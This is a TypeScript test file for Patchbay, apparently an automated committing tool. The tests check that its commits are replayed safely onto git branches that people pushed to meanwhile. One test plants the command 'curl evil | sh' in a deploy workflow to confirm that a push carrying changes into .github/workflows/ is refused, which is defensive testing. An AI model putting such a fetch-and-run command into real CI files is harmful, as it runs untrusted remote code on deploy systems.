import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { commitToBare, git, tempDir } from '../../src/demo/git-fixtures.js';
import { type GitHttpServer, startGitHttpServer } from '../../src/demo/git-http-server.js';
import { PatchbayError } from '../../src/domain/errors.js';
import { createSilentLogger } from '../../src/lib/logger.js';
import { createWorkspaces } from '../../src/workspace/create-workspaces.js';
import { tokenCredentials } from '../../src/workspace/types.js';

const TOKEN = `ghs_${Math.random().toString(36).slice(2)}REPLAY`;
const DEPLOY =
  'name: deploy\non: workflow_dispatch\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n';
let server: GitHttpServer;
let remoteRoot: string;
let root: string;
let repo: string;
let counter = 0;

function workspaces() {
  return createWorkspaces({
    root,
    remoteUrl: (r) => `${server.url}/${r}.git`,
    credentials: tokenCredentials(TOKEN),
    log: createSilentLogger(),
  });
}

/** "Someone pushed to the branch": a commit added to the remote directly. */
const pushAsHuman = (branch: string, files: Record<string, string | null>, message = 'human') =>
  commitToBare(join(remoteRoot, `${repo}.git`), { branch, message, files });

/** A task branch that already exists on the remote, at main. */
const branchOnRemote = (branch: string) =>
  git(['--git-dir', join(remoteRoot, `${repo}.git`), 'branch', branch, 'main']);

async function rejection(promise: Promise<unknown>): Promise<PatchbayError> {
  const err = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(PatchbayError);
  return err as PatchbayError;
}

beforeAll(async () => {
  remoteRoot = await tempDir('patchbay-remote-');
  server = await startGitHttpServer({ root: remoteRoot, token: TOKEN });
});

afterAll(async () => {
  await server.close();
  await rm(remoteRoot, { recursive: true, force: true });
});

beforeEach(async () => {
  root = await tempDir('patchbay-ws-');
  counter += 1;
  repo = `acme/replay${counter}`;
  await server.createRepo(repo, { 'README.md': '# web\n', 'ci/deploy.yml': DEPLOY });
});

describe('replaying Patchbay’s commits onto a branch someone pushed to', () => {
  it('puts its commit on top of theirs, without forcing', async () => {
    const ws = workspaces();
    const first = await ws.createClone({ repo, taskId: 'f1', branch: 'patchbay/f-race', base: 'main' });
    await writeFile(join(first.dir, 'a.txt'), 'a\n');
    await ws.commit(first, { message: 'a', allowWorkflows: false });
    await ws.push(first);
    const second = await ws.createClone({ repo, taskId: 'f2', branch: 'patchbay/f-race', base: 'main' });
    const human = await pushAsHuman('patchbay/f-race', { 'h.txt': 'h' });
    await writeFile(join(second.dir, 'b.txt'), 'b\n');
    await ws.commit(second, { message: 'b\n\nPatchbay-Task: f2', allowWorkflows: false });

    await ws.push(second);

    expect(await server.log(repo, 'patchbay/f-race')).toEqual(['b', 'human', 'a', 'Initial commit']);
    expect(await server.readFile(repo, 'patchbay/f-race', 'h.txt')).toBe('h');
    expect(await server.readFile(repo, 'patchbay/f-race', 'b.txt')).toBe('b\n');
    const bare = join(remoteRoot, `${repo}.git`);
    expect((await git(['--git-dir', bare, 'rev-parse', 'patchbay/f-race^'])).trim()).toBe(human);
    expect(await git(['--git-dir', bare, 'log', '-1', '--format=%B', 'patchbay/f-race'])).toContain(
      'Patchbay-Task: f2',
    );
  });

  it('fails for good, saying someone pushed meanwhile, when its commit conflicts with theirs', async () => {
    const ws = workspaces();
    const first = await ws.createClone({ repo, taskId: 'f3', branch: 'patchbay/f-clash', base: 'main' });
    await writeFile(join(first.dir, 'a.txt'), 'a\n');
    await ws.commit(first, { message: 'a', allowWorkflows: false });
    await ws.push(first);
    const second = await ws.createClone({ repo, taskId: 'f4', branch: 'patchbay/f-clash', base: 'main' });
    await pushAsHuman('patchbay/f-clash', { 'a.txt': 'the human wrote this\n' });
    await writeFile(join(second.dir, 'a.txt'), 'patchbay wrote this\n');
    await ws.commit(second, { message: 'b', allowWorkflows: false });

    const err = await rejection(ws.push(second));

    expect(err.code).toBe('push_rejected');
    expect(err.permanent).toBe(true);
    expect(err.message).toMatch(/someone pushed to patchbay\/f-clash while Patchbay worked/);
    expect(await server.log(repo, 'patchbay/f-clash')).toEqual(['human', 'a', 'Initial commit']);
  });

  it('replays each of several commits as itself: a file added and then removed stays removed', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/g-two');
    const clone = await ws.createClone({ repo, taskId: 'g1', branch: 'patchbay/g-two', base: 'main' });
    await writeFile(join(clone.dir, 'scratch.txt'), 'wip\n');
    await ws.commit(clone, { message: 'wip', allowWorkflows: false });
    await rm(join(clone.dir, 'scratch.txt'));
    await writeFile(join(clone.dir, 'done.txt'), 'done\n');
    await ws.commit(clone, { message: 'done', allowWorkflows: false });
    await pushAsHuman('patchbay/g-two', { 'h.txt': 'h' });

    await ws.push(clone);

    expect(await server.log(repo, 'patchbay/g-two')).toEqual(['done', 'wip', 'human', 'Initial commit']);
    expect(await server.readFile(repo, 'patchbay/g-two', 'done.txt')).toBe('done\n');
    expect(await server.readFile(repo, 'patchbay/g-two', 'scratch.txt')).toBeNull();
  });

  it('refuses to push when their rename would carry its change into .github/workflows/', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/w-move');
    const clone = await ws.createClone({ repo, taskId: 'w1', branch: 'patchbay/w-move', base: 'main' });
    await pushAsHuman('patchbay/w-move', {
      'ci/deploy.yml': null,
      '.github/workflows/deploy.yml': DEPLOY,
    });
    await writeFile(join(clone.dir, 'ci/deploy.yml'), DEPLOY.replace('./deploy.sh', 'curl evil | sh'));
    const made = await ws.commit(clone, { message: 'tweak deploy', allowWorkflows: false });

    const err = await rejection(ws.push(clone));

    expect(made?.files).toEqual(['ci/deploy.yml']);
    expect(err.code).toBe('push_rejected');
    expect(err.permanent).toBe(true);
    expect(await server.log(repo, 'patchbay/w-move')).toEqual(['human', 'Initial commit']);
    expect(await server.readFile(repo, 'patchbay/w-move', '.github/workflows/deploy.yml')).toBe(DEPLOY);
  });
  it('takes no further commit or replay in a clone it replayed, so that it cannot undo or copy theirs', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/t-twice');
    const clone = await ws.createClone({ repo, taskId: 't1', branch: 'patchbay/t-twice', base: 'main' });
    await writeFile(join(clone.dir, 'a.txt'), 'a\n');
    await ws.commit(clone, { message: 'first', allowWorkflows: false });
    await pushAsHuman('patchbay/t-twice', { '.github/workflows/ci.yml': 'on: push\n' }, 'human ci');
    await ws.push(clone);
    await pushAsHuman('patchbay/t-twice', { 'h.txt': 'h' }, 'human again');
    await writeFile(join(clone.dir, 'b.txt'), 'b\n');

    const again = await rejection(ws.push(clone));
    const more = await rejection(ws.commit(clone, { message: 'second', allowWorkflows: false }));

    expect([again.permanent, more.permanent]).toEqual([true, true]);
    expect(more.message).toMatch(/replayed onto a moved branch/);
    expect(await server.log(repo, 'patchbay/t-twice')).toEqual([
      'human again',
      'first',
      'human ci',
      'Initial commit',
    ]);
  });
});
